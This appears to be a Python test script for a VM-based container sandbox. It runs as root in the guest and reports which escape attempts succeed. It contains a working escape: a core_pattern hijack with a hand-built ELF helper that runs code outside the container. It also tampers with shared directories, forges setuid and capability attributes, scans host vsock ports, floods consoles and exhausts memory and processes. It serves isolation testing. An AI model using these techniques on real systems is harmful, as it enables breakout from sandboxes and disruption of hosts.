"""Root in a guest tries to leave it. Prints, as JSON, how often what was tried, and what succeeded that must not.

Arguments: a word that every name and content has, the seed, how many times what is repeated. With a fourth one it runs
beside the guest's first process, as the kernel's helper for core dumps, and tries the shared directory only, which is open
as descriptor SHARED_FD."""

import ctypes, errno, json, os, random, resource, signal, socket, stat, struct, sys, time

MARK, SEED, TIMES = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
SHARED_FD = 9
REPORT, SCRIPT, HELPER, LOG = (f"/{MARK}-{name}" for name in ["report", "script", "helper", "log"])
random.seed(SEED)
libc = ctypes.CDLL(None, use_errno=True)
tried, escaped = {}, []
# VMADDR_CID_HOST, and the ports that Kata and the project use.
HOST, KNOWN_PORTS = 2, [1000, 1024, 1025, 1026, 1027, 10240, 10260]
PR_SET_DUMPABLE = 4
MS_SHARED, MS_REC, MS_BIND, MS_REMOUNT = 1 << 20, 1 << 14, 1 << 12, 1 << 5


def attempt(kind, call, what=None):
    """Makes a call that must fail where it has a name; one that succeeds nevertheless is reported by it."""
    tried[kind] = tried.get(kind, 0) + 1
    try:
        call()
    except (OSError, ValueError):
        return
    if what:
        escaped.append(f"{kind}: {what}")


def mount(source, target, kind, flags=0):
    if libc.mount(source.encode(), target.encode(), kind.encode() if kind else None, flags, None):
        raise OSError(ctypes.get_errno(), target)


def write(path, data=None):
    with open(path, "wb") as file:
        file.write(data or MARK.encode())


def touch_shared(place):
    """Everything that changes a directory in which only the host may."""
    own = f"{place}/{MARK}"
    attempt("create", lambda: write(own), own)
    attempt("directory", lambda: os.mkdir(own), own)
    attempt("symlink", lambda: os.symlink("/etc", own), own)
    attempt("hard link", lambda: os.link(f"/{MARK}", own), own)
    attempt("fifo", lambda: os.mkfifo(own), own)
    attempt("device", lambda: os.mknod(own, stat.S_IFCHR | 0o666, os.makedev(1, 1)), own)
    attempt("socket", lambda: socket.socket(socket.AF_UNIX).bind(own), own)
    attempt("mode", lambda: os.chmod(place, 0o6777), place)
    attempt("owner", lambda: os.chown(place, 1234, 1234), place)
    attempt("time", lambda: os.utime(place, (1, 1)), place)
    attempt("attribute", lambda: os.setxattr(place, "user.x", b"x"), place)
    attempt("attribute", lambda: os.setxattr(place, "trusted.x", b"x"), place)
    if place != TOP:
        attempt("parent", lambda: write(f"{place}/../{MARK}"), f"{place}/..")
    for name in os.listdir(place)[:20]:
        path = f"{place}/{name}"
        attempt("rename", lambda: os.rename(path, f"{place}/{MARK}-moved"), path)
        attempt("unlink", lambda: os.unlink(path), path)
        if os.path.isfile(path):
            attempt("truncate", lambda: os.truncate(path, 0), path)


def shared_directories(top, own, depth=0):
    for name in sorted(os.listdir(top)):
        path = f"{top}/{name}"
        if path == own or os.path.islink(path) or not os.path.isdir(path):
            continue
        # Volumes are the container's own.
        if os.path.basename(top) == "mounts":
            continue
        yield path
        if depth < 3:
            try:
                yield from shared_directories(path, own, depth + 1)
            except OSError:
                pass


def helper():
    """A program that opens /shared, goes into the root that is its argument, and executes this script there.

    It is written by hand, since nothing of the container's runs outside its root: x86-64, one segment, system calls only."""
    base, header = 0x400000, 64 + 56
    arguments = ["python3", SCRIPT, MARK, str(SEED), str(TIMES), "shared"]
    # `/..` of the root that the helper begins with is what is mounted over it: the tree of the guest's first process.
    texts = [b"/../shared\0", b"/usr/bin/python3\0", LOG.encode() + b"\0", b"/\0", *(text.encode() + b"\0" for text in arguments)]

    def assemble(addresses, vector):
        mov_rdi, mov_rsi = b"\x48\xbf", b"\x48\xbe"
        call = lambda number: b"\xb8" + struct.pack("<I", number) + b"\x0f\x05"
        return b"".join([
            mov_rdi, struct.pack("<Q", addresses[0]), b"\xbe", struct.pack("<I", os.O_DIRECTORY), b"\x31\xd2", call(2),
            b"\x89\xc3",  # mov ebx, eax
            b"\x48\x8b\x7c\x24\x10", call(161),  # chroot(argv[1])
            mov_rdi, struct.pack("<Q", addresses[3]), call(80),  # chdir("/"): Python wants to name where it is
            b"\x89\xdf\xbe", struct.pack("<I", SHARED_FD), call(33),  # dup2(ebx, SHARED_FD)
            # close(ebx); what is opened next takes the first number that is free, standard output.
            b"\x89\xdf", call(3),
            mov_rdi, struct.pack("<Q", addresses[2]), b"\xbe", struct.pack("<I", os.O_WRONLY | os.O_CREAT),
            b"\xba", struct.pack("<I", 0o600), call(2),
            b"\xbf\x01\0\0\0\xbe\x02\0\0\0", call(33),  # dup2(1, 2)
            mov_rdi, struct.pack("<Q", addresses[1]), mov_rsi, struct.pack("<Q", vector), b"\x31\xd2", call(59),
            b"\xbf\x01\0\0\0", call(60),
        ])

    at = base + header + len(assemble([0, 0, 0, 0], 0))
    addresses = []
    for text in texts:
        addresses.append(at)
        at += len(text)
    vector = struct.pack(f"<{len(arguments) + 1}Q", *addresses[4:], 0)
    body = assemble(addresses, at) + b"".join(texts) + vector
    size = header + len(body)
    elf = b"\x7fELF\2\1\1" + bytes(9)
    elf += struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, base + header, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    elf += struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, size, size, 4096)
    return elf + body


def reach_shared():
    """Has the kernel execute the helper outside of every container, as it does where a process dumps core. A mount of the
    file system's tag is no way: the kernel gives the newest of the trees that it has of it, the container's own. The helper's
    root is the kernel's first mount, on which the guest's own root is mounted; `..` leads from the one to the other."""
    write(SCRIPT, sys.orig_argv[2].encode())
    write(HELPER, helper())
    os.chmod(HELPER, 0o755)
    write("/proc/sys/kernel/core_pattern", f"|/../proc/%P/root{HELPER} /../proc/%P/root".encode())
    child = os.fork()
    if child == 0:
        resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        libc.prctl(PR_SET_DUMPABLE, 1)
        os.kill(os.getpid(), signal.SIGSEGV)
    os.waitpid(child, 0)
    for _ in range(300):
        if os.path.exists(REPORT):
            break
        time.sleep(0.1)
    else:
        log = open(LOG).read() if os.path.exists(LOG) else "the helper did not begin"
        raise RuntimeError(f"nothing was tried in the shared directory: {log}")
    with open(REPORT) as file:
        report = json.load(file)
    for kind, times in report["tried"].items():
        tried[kind] = tried.get(kind, 0) + times
    escaped.extend(report["escaped"])
    return report["places"]


def only_shared():
    """What runs in the helper: in the place of the guest's first process, with all its rights."""
    os.fchdir(SHARED_FD)
    attempt("writable again", lambda: mount("none", ".", None, MS_REMOUNT))
    own = next((place for place, _, names in os.walk(".") if MARK in names), None)
    places = [".", *shared_directories(".", own)]
    for place in places:
        touch_shared(place)
    report = json.dumps({"tried": tried, "escaped": escaped[:20], "places": places})
    write(f"{REPORT}.new", report.encode())
    os.rename(f"{REPORT}.new", REPORT)
    sys.exit()


def misuse_own():
    """Whatever a file system can hold, where the container may write: the host stores it, and is not to notice."""
    place = f"/{MARK}-dir"
    os.makedirs(place)
    program = f"{place}/{MARK}-suid"
    write(program, open("/proc/self/exe", "rb").read(1 << 20))
    attempt("own suid", lambda: os.chmod(program, 0o6755))
    attempt("own device", lambda: os.mknod(f"{place}/{MARK}-mem", stat.S_IFCHR | 0o666, os.makedev(1, 1)))
    attempt("own device", lambda: os.mknod(f"{place}/{MARK}-sda", stat.S_IFBLK | 0o666, os.makedev(8, 0)))
    attempt("own fifo", lambda: os.mkfifo(f"{place}/{MARK}-fifo"))
    attempt("own attribute", lambda: os.setxattr(program, "security.capability", struct.pack("<5I", 0x02000001, ~0 & 0xFFFFFFFF, 0, 0xFF, 0)))
    for number in range(64):
        attempt("own attribute", lambda: os.setxattr(program, f"user.{number}", b"x" * 4000))
        attempt("own attribute", lambda: os.setxattr(program, f"trusted.overlay.{number}", b"/etc"))
    attempt("sparse", lambda: open(f"{place}/{MARK}-sparse", "wb").truncate(1 << 40))
    attempt("large", lambda: write(f"{place}/{MARK}-large", b"x" * (16 << 20)))
    for number in range(10 * TIMES):
        attempt("many", lambda: write(f"{place}/{MARK}-{number}"))
    for name in [b"\x1b[2J", b"new\nline", b"\xff\xfe", b"x" * 255, b"-rf", b"%s%n"]:
        attempt("name", lambda: open(os.fsencode(place) + b"/" + name, "wb").close())
    for target in ["/etc/shadow", "../" * 40 + "etc/shadow", "/proc/self/fd/0", "/proc/1/root/etc/shadow"]:
        attempt("own symlink", lambda: os.symlink(target, f"{place}/{MARK}-{random.getrandbits(32):x}"))
    deep = place
    for _ in range(100):
        deep += "/d"
        attempt("deep", lambda: os.mkdir(deep))
    attempt("shared mount", lambda: mount("none", "/", None, MS_SHARED | MS_REC))
    attempt("shared mount", lambda: (os.mkdir("/m"), mount("tmpfs", "/m", "tmpfs"), mount("/m", place, None, MS_BIND)))


def host_ports():
    """Whether a process on the host listens for the guest."""
    ports = KNOWN_PORTS + [random.randrange(1, 1 << 32) for _ in range(5 * TIMES)]
    for at in range(0, len(ports), 100):
        open_ones = []
        for port in ports[at : at + 100]:
            tried["host port"] = tried.get("host port", 0) + 1
            one = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
            one.setblocking(False)
            one.connect_ex((HOST, port))
            open_ones.append((one, port))
        time.sleep(0.5)
        for one, port in open_ones:
            try:
                one.getpeername()
                escaped.append(f"host port {port} answers")
            except OSError:
                pass
            one.close()


def own_ports():
    """Listens on every free port, the agent's too, on as many at a time as it may have files."""
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[0] // 2
    listening = []
    for port in KNOWN_PORTS + list(range(1, 20 * TIMES)):
        if len(listening) == most:
            listening.pop(0).close()
        one = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
        attempt("listen", lambda: (one.bind((0xFFFFFFFF, port)), one.listen(1)))
        listening.append(one)
    return listening


def consoles():
    noise = ("\x1b[2J\x1b]0;owned\x07\0" + MARK).encode() * 100
    for name, major, minor in [("console", 5, 1), ("kmsg", 1, 11), ("hvc0", 229, 0), ("ttyS0", 4, 64)]:
        path = f"/m-dev/{name}"
        attempt("device", lambda: os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(major, minor)))
        try:
            with open(path, "wb", buffering=0) as console:
                for _ in range(TIMES):
                    attempt("console", lambda: console.write(noise[:900]))
        except OSError:
            pass


def out_of_memory():
    os.makedirs("/cg")
    attempt("control groups", lambda: mount("none", "/cg", "cgroup2"))
    os.makedirs("/cg/small", exist_ok=True)
    attempt("control groups", lambda: write("/cg/cgroup.subtree_control", b"+memory"))
    attempt("control groups", lambda: write("/cg/small/memory.max", b"4194304"))
    for _ in range(TIMES // 4):
        tried["out of memory"] = tried.get("out of memory", 0) + 1
        child = os.fork()
        if child == 0:
            try:
                write("/cg/small/cgroup.procs", str(os.getpid()).encode())
                _hog = b"x" * (32 << 20)
            finally:
                os._exit(0)
        os.waitpid(child, 0)


def forks():
    children = []
    for _ in range(10 * TIMES):
        tried["fork"] = tried.get("fork", 0) + 1
        try:
            child = os.fork()
        except OSError:
            break
        if child == 0:
            # When the guest's memory runs out, the kernel is to end one of these.
            write("/proc/self/oom_score_adj", b"1000")
            time.sleep(100)
            os._exit(0)
        children.append(child)
    for child in children:
        os.kill(child, 9)
    for child in children:
        os.waitpid(child, 0)


TOP = "."
if len(sys.argv) > 4:
    only_shared()
write(f"/{MARK}")
os.mkdir("/m-dev")
mount("tmpfs", "/m-dev", "tmpfs")
begin, kept = time.monotonic(), {}
for part in [reach_shared, misuse_own, host_ports, own_ports, consoles, out_of_memory, forks]:
    # What it returns is held until the end.
    kept[part.__name__] = part()
    print(f"{part.__name__}: {time.monotonic() - begin:.1f} s", file=sys.stderr, flush=True)
print(json.dumps({"tried": tried, "escaped": escaped[:20], "places": kept["reach_shared"]}))
